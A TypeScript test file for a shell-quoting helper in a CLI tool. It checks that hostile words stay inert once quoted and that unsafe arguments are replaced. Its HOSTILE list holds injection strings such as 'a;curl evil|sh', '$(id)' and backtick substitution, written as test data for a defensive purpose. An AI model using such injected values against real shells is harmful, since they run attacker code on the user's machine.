import { spawnSync } from "node:child_process";
import * as fc from "fast-check";
import { printable } from "../../src/problems/printable";
import { shellCommand, shellWord } from "../../src/problems/shell";
import { anyText } from "../support/any-text";

const UNPASTEABLE = "(a name that cannot be pasted)";

/** What a shell makes of each line: the words behind its first one. */
function wordsOf(lines: readonly string[]): string[][] {
  const script = lines.map((line) => `set -- ${line}\nprintf '%s\\0' "$@"\nprintf '\\n\\0'`).join("\n");
  const { stdout, status } = spawnSync("sh", ["-s"], { input: script, encoding: "utf8" });
  expect(status).toBe(0);
  return stdout
    .split("\n\0")
    .slice(0, -1)
    .map((line) => line.split("\0").slice(0, -1));
}

test.each(["prod-eu1", "clusters/a/pki/ca.crt", "admin@prod", "https://vault:8200/x", "a=b", "50%", "v1.2+3"])(
  "%s needs no quotes",
  (word) => expect(shellWord(word)).toBe(word),
);

const HOSTILE = [
  "a;curl evil|sh",
  "$(id)",
  "`id`",
  "~root",
  "=ls",
  "a b",
  "it's",
  "''",
  "",
  "#x",
  "!!",
  "a\\",
  "*",
  "{a,b}",
  "x>y",
  "a&&b",
];

test("a shell reads every word back as it is, and runs nothing", () => {
  expect(wordsOf(HOSTILE.map(shellWord))).toEqual(HOSTILE.map((word) => [word]));
});

test("a shell reads random words back as they are", () => {
  const word = fc.string({ unit: "grapheme", maxLength: 12 }).filter((text) => shellWord(text) !== UNPASTEABLE);
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 20 }), (words) => {
      expect(wordsOf(words.map(shellWord))).toEqual(words.map((one) => [one]));
    }),
    { numRuns: 30 },
  );
});

test.each(["-rf", "--exec=sh", "a\nb", "a\rb", "a\u001b[2Jb", "a\u202eb", "##[error]"])(
  "%j cannot be pasted, and a shell refuses the line that says so",
  (word) => {
    const line = shellCommand`npx typha-mtls synth ${word}`;
    expect(line).toBe(`npx typha-mtls synth ${UNPASTEABLE}`);
    expect(spawnSync("sh", ["-n", "-c", line]).status).not.toBe(0);
  },
);

test("what is put into a shellCommand is quoted there, a list as several words", () => {
  expect(shellCommand`npx typha-mtls synth ${["demo", "a b"]} --nodes ${3} && git add .`).toBe(
    "npx typha-mtls synth demo 'a b' --nodes 3 && git add .",
  );
});

test("a quoted word needs no escape on the terminal", () => {
  fc.assert(
    fc.property(anyText(12), (text) => {
      const word = shellWord(text);
      expect(printable(`run ${word}`)).toBe(`run ${word}`);
    }),
  );
});
